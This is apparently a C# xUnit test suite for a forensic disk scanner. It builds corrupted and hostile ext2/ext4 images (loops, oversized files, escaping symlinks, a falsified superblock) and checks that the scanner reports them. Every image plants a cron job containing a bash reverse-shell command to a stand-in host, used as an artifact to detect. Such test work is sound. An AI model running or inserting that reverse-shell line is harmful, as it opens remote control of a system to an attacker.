using System.Buffers.Binary;
using System.Diagnostics;
using System.Globalization;
using System.Text;
using System.Text.Json.Nodes;
using Forensics.Parsers.Tests.FileSystems.Ext;
using Xunit;

namespace Forensics.Analyzer.Tests.EndToEnd;

/// <summary>
/// Hostile ext file systems through the whole program. What every case owes: a diagnostic with the inode in the report, all other files still looked at (the planted
/// job is found), the coverage says that it is incomplete, a gate does not pass, and it takes no long.
/// </summary>
public sealed class HostileExtTests
{
    private const double MostSeconds = 20;
    private const string Job = "* * * * * root bash -i >& /dev/tcp/198.51.100.7/4444 0>&1\n";

    [Theory]
    [InlineData("-t ext4 -b 1024")]
    [InlineData("-t ext2 -b 1024")]
    public void E01_a_sparse_file_of_16_TiB_is_reported_and_not_read(string options)
    {
        using ExtImage image = Make(options, 16);
        image.Debugfs(["sif big size 0xFFFFFFFFFFF"], write: true);
        JsonObject report = Scan(image, "--profile", "full");
        AssertDiagnostic(report, "scan.too-large", "/big");
        var clock = Stopwatch.StartNew();
        (int code, byte[] output, string error) = Deadbox.Run("files", image.Path, "--hash", "md5");
        Assert.Equal(0, code);
        Assert.InRange(clock.Elapsed.TotalSeconds, 0, MostSeconds);
        Assert.Contains("hash.too-large", error, StringComparison.Ordinal);
        string[] rows = Encoding.UTF8.GetString(output).Split('\n');
        Assert.Contains(",17592186044415,", Assert.Single(rows, row => row.StartsWith("disk@0,/big,", StringComparison.Ordinal)), StringComparison.Ordinal);
        // The digest of the job, computed here.
#pragma warning disable CA5351 // A digest to compare with, nothing to protect.
        string md5 = Convert.ToHexStringLower(System.Security.Cryptography.MD5.HashData(Encoding.UTF8.GetBytes(Job)));
#pragma warning restore CA5351
        Assert.Contains(md5, Assert.Single(rows, row => row.StartsWith("disk@0,/etc/cron.d/job,", StringComparison.Ordinal)), StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("-t ext4 -b 1024")]
    [InlineData("-t ext4 -b 1024 -O ^extents,^64bit")]
    public void E02_a_negative_size_is_reported(string options)
    {
        using ExtImage image = Make(options, 16);
        image.Debugfs(["sif big size 0x8000000000000000"], write: true);
        JsonObject report = Scan(image);
        AssertDiagnostic(report, "ext4.inode.size.corrupt", "/big");
        Assert.Equal(1, (int)report["coverage"]!["skipped"]!["unreadable"]!);
    }

    [Fact]
    public void E03_an_extent_tree_that_leads_to_itself_is_reported()
    {
        using ExtImage image = Make("-t ext4 -b 1024 -O ^metadata_csum", 16);
        byte[] data = image.Bytes();
        int inode = ExtPlaces.Inode(image, data, "/big");
        int block = ExtPlaces.Blocks(image, "/big")[0];
        // The root of the tree names the file's first block, which is made a node that names itself.
        Put16(data, inode + 0x28 + 2, 1);
        Put16(data, inode + 0x28 + 6, 2);
        Put32(data, inode + 0x28 + 12, 0);
        Put32(data, inode + 0x28 + 16, (uint)block);
        Put16(data, inode + 0x28 + 20, 0);
        int node = block * 1024;
        Put16(data, node, 0xF30A);
        Put16(data, node + 2, 1);
        Put16(data, node + 4, 84);
        Put16(data, node + 6, 1);
        Put32(data, node + 12, 0);
        Put32(data, node + 16, (uint)block);
        Put16(data, node + 20, 0);
        File.WriteAllBytes(image.Path, data);
        AssertDiagnostic(Scan(image, "--profile", "full"), "ext4.extent.loop", null);
    }

    [Fact]
    public void E04_a_directory_inside_itself_and_one_too_deep_are_reported()
    {
        using ExtImage image = Make("-t ext4 -b 1024", 16);
        image.Debugfs(["mkdir a", "mkdir a/b", "link /a /a/b/loop"], write: true);
        JsonObject report = Scan(image, complete: true);
        AssertDiagnostic(report, "walk.directory-loop", "/a/b/loop");
        var commands = new List<string> { "mkdir deep", "cd deep" };
        for (int i = 0; i < 1100; i++)
        {
            commands.AddRange(["mkdir d", "cd d"]);
        }
        image.Debugfs(commands, write: true);
        report = Scan(image);
        JsonNode limit = Assert.Single(report["diagnostics"]!.AsArray(), item => ((string)item!["code"]!).StartsWith("limit.", StringComparison.Ordinal))!;
        Assert.StartsWith("/deep/d/d/", (string)limit["path"]!, StringComparison.Ordinal);
        Assert.True((ulong)limit["inode"]! > 11);
    }

    [Fact]
    public void E07_a_million_names_of_one_file_are_counted_and_read_once()
    {
        using ExtImage image = Make("-t ext4 -b 1024 -O ^metadata_csum -g 8192", 32);
        image.Debugfs(["mkdir huge"], write: true);
        byte[] data = image.Bytes();
        int inode = ExtPlaces.Inode(image, data, "/huge");
        uint file = uint.Parse(image.Debugfs(["stat /big"]).Split("Inode: ")[1].Split(' ')[0], CultureInfo.InvariantCulture);
        // Blocks of the last two groups, which nothing uses: the directory lies there in one extent.
        const int FirstBlock = 20_000;
        const int Blocks = 12_000;
        const int PerBlock = 1024 / 12;
        Put32(data, inode + 4, Blocks * 1024);
        data.AsSpan(inode + 0x28, 60).Clear();
        Put16(data, inode + 0x28, 0xF30A);
        Put16(data, inode + 0x28 + 2, 1);
        Put16(data, inode + 0x28 + 4, 4);
        Put16(data, inode + 0x28 + 16, Blocks);
        Put32(data, inode + 0x28 + 20, FirstBlock);
        for (int block = FirstBlock; block < FirstBlock + Blocks; block++)
        {
            for (int i = 0; i < PerBlock; i++)
            {
                int record = block * 1024 + i * 12;
                Put32(data, record, file);
                Put16(data, record + 4, (ushort)(i == PerBlock - 1 ? 1024 - i * 12 : 12));
                data[record + 6] = 4;
                data[record + 7] = 1;
                data.AsSpan(record + 8, 4).Fill((byte)('a' + i % 26));
            }
        }
        File.WriteAllBytes(image.Path, data);
        JsonObject report = Scan(image, complete: true, options: ["--profile", "full"]);
        Assert.True((long)report["coverage"]!["seen"]! >= (long)Blocks * PerBlock);
        // 12 MB of content, not a million times that.
        Assert.InRange((long)report["run"]!["bytesRead"]!, 1, 64 << 20);
    }

    [Fact]
    public void E08_a_lie_in_the_superblock_is_reported_and_costs_nothing()
    {
        using ExtImage image = Make("-t ext4 -b 1024 -g 2048", 16);
        byte[] data = image.Bytes();
        Put16(data, 1024 + 0x58, 128);
        File.WriteAllBytes(image.Path, data);
        JsonObject report = Scan(image, complete: true);
        AssertDiagnostic(report, "ext4.superblock.backup", null);
        JsonNode state = Assert.Single(report["artifacts"]!.AsArray(), item => (string?)item!["kind"] == "file-system-state")!;
        Assert.Equal(2049 * 1024, (int)state["byteOffset"]!);
    }

    [Fact]
    public void E11_links_are_followed_inside_the_image_only()
    {
        using ExtImage image = Make("-t ext4 -b 1024", 16);
        string shadow = image.NewFile("shadow", "root:!image:1::::::\n"u8.ToArray());
        image.Debugfs(
        [
            $"write {shadow} etc/shadow", "symlink abs /etc/shadow", "symlink self self", "symlink hostname /proc/sys/kernel/hostname", "symlink long " + new string('l', 1023),
            "symlink etc/cron.d/linked /etc/shadow", "symlink up ../../../../../../../../etc/shadow",
        ], write: true);
        JsonObject report = Scan(image, complete: true);
        Assert.DoesNotContain(Environment.MachineName, report.ToJsonString(), StringComparison.OrdinalIgnoreCase);
        foreach (string path in (string[])["/abs", "/up", "/etc/cron.d/linked"])
        {
            Assert.Equal("root:!image:1::::::\n", Encoding.UTF8.GetString(Deadbox.Run("cat", image.Path, path).Output));
        }
        foreach (string path in (string[])["/self", "/hostname", "/long"])
        {
            (int code, byte[] output, string error) = Deadbox.Run("cat", image.Path, path);
            Assert.Equal(2, code);
            Assert.Empty(output);
            Assert.Single(error.Trim().Split('\n'));
        }
    }

    private static ExtImage Make(string options, int mebibytes)
    {
        ExtImage image = ExtImage.Make(options, mebibytes, withTree: false);
        string job = image.NewFile("job", Encoding.UTF8.GetBytes(Job));
        string passwd = image.NewFile("passwd", "root:x:0:0:root:/root:/bin/bash\n"u8.ToArray());
        var content = new byte[5 << 20];
        new Random(5).NextBytes(content);
        string big = image.NewFile("big", content);
        image.Debugfs(["mkdir etc", "mkdir etc/cron.d", $"write {job} etc/cron.d/job", $"write {passwd} etc/passwd", $"write {big} big"], write: true);
        return image;
    }

    private static JsonObject Scan(ExtImage image, params string[] options) => Scan(image, complete: false, options);

    private static JsonObject Scan(ExtImage image, bool complete, params string[] options)
    {
        var clock = Stopwatch.StartNew();
        JsonObject report = Deadbox.Scan(image.Path, ["--no-builtin-rules", .. options]).Report;
        Assert.InRange(clock.Elapsed.TotalSeconds, 0, MostSeconds);
        Assert.Contains(report["artifacts"]!.AsArray(), item => (string?)item!["kind"] == "cron-job" && (string?)item["path"] == "/etc/cron.d/job");
        Assert.Equal(!complete, (bool)report["coverage"]!["isIncomplete"]!);
        JsonNode coverage = report["coverage"]!;
        Assert.Equal((long)coverage["seen"]!, (long)coverage["examined"]! + coverage["skipped"]!.AsObject().Sum(pair => (long)pair.Value!));
        (int code, _, string error) = Deadbox.Run(["scan", image.Path, "-q", "--no-builtin-rules", "--fail-on", "critical", .. options]);
        Assert.True(code == (complete ? 0 : 4), $"exit {code}: {error}");
        return report;
    }

    private static void AssertDiagnostic(JsonObject report, string code, string? path)
    {
        JsonNode found = Assert.Single(report["diagnostics"]!.AsArray(), item => (string?)item!["code"] == code)!;
        Assert.Equal("disk@0", (string?)found["volume"]);
        if (path is not null)
        {
            Assert.Equal(path, (string?)found["path"]);
        }
    }

    private static void Put32(byte[] image, int offset, uint value) => BinaryPrimitives.WriteUInt32LittleEndian(image.AsSpan(offset), value);

    private static void Put16(byte[] image, int offset, ushort value) => BinaryPrimitives.WriteUInt16LittleEndian(image.AsSpan(offset), value);
}
